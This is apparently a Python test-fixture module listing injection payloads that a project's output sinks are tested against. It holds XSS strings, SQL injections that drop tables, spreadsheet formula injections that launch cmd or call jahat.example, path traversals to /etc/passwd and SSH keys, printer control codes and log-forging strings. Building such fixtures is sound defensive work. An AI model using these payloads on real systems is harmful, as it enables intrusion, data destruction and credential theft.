"""S11: what somebody writes who wants more than to be read. Lists of our own, one for each kind of reader that could be
fooled; every test of a sink takes them whole.

`TYPED`: all of it that is one printable line, which the hall takes as a text like any other. `HIDDEN`: what it refuses.
"""

TAGS = ("script", "img", "svg", "iframe", "object", "style", "form", "details")
SHAPES = (
    "<{tag} onload=alert(1)>", "<{tag}/src=x onerror=alert(1)>", "'\"><{tag} onclick=alert(1)>",
    "</title><{tag}>alert(1)</{tag}>", "<<{tag}>>alert(1)",
)  # fmt: skip
XSS = (
    *(shape.format(tag=tag) for tag in TAGS for shape in SHAPES),
    "javascript:alert(1)", "\" autofocus onfocus=alert(1) x=\"", "' style='x' onmouseover='alert(1)", "{{ 7*7 }}",
    "{% raw %}", "${7*7}", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "&lt;script&gt;",
    "&#60;script&#62;", "`onload=alert(1)`", "\\u003cscript\\u003e", "</textarea><script>alert(1)</script>",
    "</select></form><form action=//jahat.example>",
)  # fmt: skip
"""For a browser: tags, attributes, the ends of what they may stand in, and signs of the templates."""

SQL = (
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE entry; --", "'; DELETE FROM ticket WHERE 1=1; --",
    "'); DROP TABLE remark; --", "1; ATTACH DATABASE 'x.db' AS x", "' UNION SELECT * FROM account --",
    "' UNION SELECT NULL, NULL, NULL --", "admin' --", "admin'/*", "*/ OR 1=1 /*", "' AND SLEEP(5) --",
    "' || (SELECT secret FROM account) || '", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master) --", "%' OR '%'='",
    "_%", "%", "' GLOB '*", "' LIKE '%", "\\'; SELECT 1; --", "''", "'", "\"", "`", "[entry]", "?", "?1", ":name",
    "@var", "$1", "%s", "%(x)s", "{0}", "NULL", "X'00'", "0x27204f5220", "' COLLATE NOCASE --",
    "'; PRAGMA writable; --",
    "'; VACUUM INTO '/tmp/x'; --", "' RETURNING * --", "'; UPDATE entry SET hash=''; --", "CAST('1' AS INTEGER)",
)  # fmt: skip
"""For a database: ends of a text, comments, second statements, and what stands for a value."""

FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "=HYPERLINK(\"http://jahat.example\",\"klik\")", "=cmd|' /C calc'!A0", "=DDE(\"x\";\"y\")",
    "=WEBSERVICE(\"http://jahat.example\")", "=IMPORTXML(\"http://jahat.example\",\"//a\")", "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "  +1+1",
    "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=\"a\"&\"b\"", "'=1+1\",\"=2",
)  # fmt: skip
"""For a spreadsheet: what it would compute, also behind what it does not show, and by the wide signs of Asian keys."""

PATHS = (
    "../etc/passwd", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "//etc/passwd",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd", "..%5c..%5cetc%5cpasswd", ".%2e/.%2e/etc/passwd", "..;/..;/etc/passwd",
    "file:///etc/passwd", "../gerai.db", "..%2fgerai.db", "../gerai.db.key", "%2e%2e/site.toml", "../site.toml%00.toml",
    "C:\\gerai.db", "~/.ssh/id_ed25519", "/proc/self/environ", "../../central.toml", ".", "..",
)  # fmt: skip
"""For whoever opens files by name: the way up and out, plain and written as addresses are."""

PRINTER = (
    "\x1b@", "\x1dV\x00", "\x1dV\x42\x00", "\x1bp\x00\x19\xfa", "\x10\x14\x01\x00\x05", "\x10\x04\x01", "\x1dr\x01",
    "\x1dv0\x00\xff\x00\xff\xff", "\x1d(k\x04\x00\x31\x41\x32\x00", "\x1b=\x00", "\x1bd\xff", "\x1bJ\xff", "\x1b!\xff",
    "\x1dL\xff\xff", "\x1b\x70\x31", "\x1c.\x1b@", "\x1d|\x01", "\x0c\x0b", "\x9b2J", "\x1bR\x08",
)  # fmt: skip
"""For a printer of ESC/POS: reset, cut, drawer, status, pictures without an end, feeds, character sets, offline."""

LOGS = (
    "masuk\n2026-11-23 08:00:00 [error] palsu", "masuk\r\n2026-11-23 08:00:00 [info ] palsu", "a\rb", "a\x0bb",
    "a\x0cb", "a\x1b[2Jb", "\x1b[1A\x1b[2K[info ] palsu", "\x1b]0;judul\x07",
    "\x1b]8;;http://jahat.example\x1b\\klik", "a\x85b",
    "a\u2028[error] palsu", "a\u2029b", "\x9b31mmerah", "a\bb\b\b", "a\0b", "\u202e[ofni] uslap", "level=error\tx=y",
)  # fmt: skip
"""For whoever reads a log: second lines, signs that move the cursor or erase, and other titles."""

HIDDEN = (
    "\0", "\x01", "\x07", "\b", "\x1b", "\x7f", "\x80", "\x85", "\x9b", "\u061c", "\u200b", "\u200d", "\u200e",
    "\u200f", "\u2028", "\u2029", "\u202a", "\u202d", "\u202e", "\u2060", "\u2066", "\u2069", "\ufeff", "\ufff9",
)  # fmt: skip
"""Signs without a shape: they steer a machine, or turn what a person reads."""

UNICODE = (
    "\u0130stanbul \u0131\u015f\u0131k", "Zalgo " + "a" + "\u0301" * 40, "\U0001f3e2 Loket \U0001f468\u200d\U0001f469",
    "\ufb03\u2460\u00bd", "\u0645\u0644\u0641", "\u6f22\u5b57", "a\u00a0b", "\U000e0041", "\ue000", "\U0010fffd",
)  # fmt: skip
"""Letters that few names have: none of them is an attack by itself."""

ALL = (*XSS, *SQL, *FORMULAS, *PATHS, *PRINTER, *LOGS, *HIDDEN, *UNICODE)
TYPED = tuple(dict.fromkeys(each for each in ALL if each.isprintable()))
LEAST = ((XSS, 50), (SQL, 40), (FORMULAS, 20), (PATHS, 20), (PRINTER, 15), (LOGS, 10))
"""Of each list, how many the promise S11 asks for."""
